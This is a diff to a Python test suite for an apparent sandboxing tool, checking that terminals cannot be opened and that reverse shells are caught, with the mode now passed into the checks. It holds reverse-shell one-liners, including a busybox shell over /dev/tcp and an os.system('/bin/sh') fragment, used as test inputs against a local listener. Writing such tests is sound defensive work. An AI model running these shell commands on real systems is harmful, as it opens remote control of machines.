@@ -14,6 +14,7 @@ import uuid
 from harness import ROOT, check, contains, equal, free_port, main, skip, test, wait_for
 
 MODES = ("local", "container")
+WAYS = {"local": "cofferdam shell", "container": "docker run -it --entrypoint sh"}  # to look around
 PROBES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "access_probes")
 
 
@@ -77,7 +78,7 @@ def no_terminal_can_be_opened(place, mode):
     for name in ("openpty", "read-only", "pts", "take", "type"):
         check(said[name] != "ok", f"{mode}: {name} worked: {said}")
     equal((said["take"], said["type"]), ("EPERM", "EPERM"), "TIOCSCTTY and TIOCSTI")
-    one_finding(result, "CD402", "python3", "cofferdam shell", "remote_login: allow")
+    one_finding(result, "CD402", "python3", WAYS[mode], "remote_login: allow")
     equal(result.findings("CD101"), [], "no write was refused")
 
 
@@ -187,26 +188,26 @@ os.system("/bin/sh")'""",
 }
 
 
-def call_home(place, name, command):
+def call_home(place, mode, name, command):
     outside = Outside()
     with scratch() as folder:
         result = place.sh(command.replace("PORT", str(outside.port)).replace("SCRATCH", folder), timeout=60)
     check(b"typed-42" not in outside.answer, f"{name}: a command from outside ran: {outside.answer!r}")
-    one_finding(result, "CD403", "interactive shell", "cofferdam shell")
+    one_finding(result, "CD403", "interactive shell", WAYS[mode])
     outside.server.close()
 
 
 @in_both_modes
-def reverse_shells(place, _mode):
+def reverse_shells(place, mode):
     for name, command in REVERSE.items():
-        call_home(place, name, command)
+        call_home(place, mode, name, command)
 
 
 @in_both_modes
-def a_reverse_shell_of_busybox(place, _mode):
+def a_reverse_shell_of_busybox(place, mode):
     if not shutil.which("busybox", path=place.env["PATH"]):
         skip("busybox")
-    call_home(place, "busybox", "bash -c 'exec busybox sh -i 0<>/dev/tcp/127.0.0.1/PORT 1>&0'")
+    call_home(place, mode, "busybox", "bash -c 'exec busybox sh -i 0<>/dev/tcp/127.0.0.1/PORT 1>&0'")
 
 
 @test
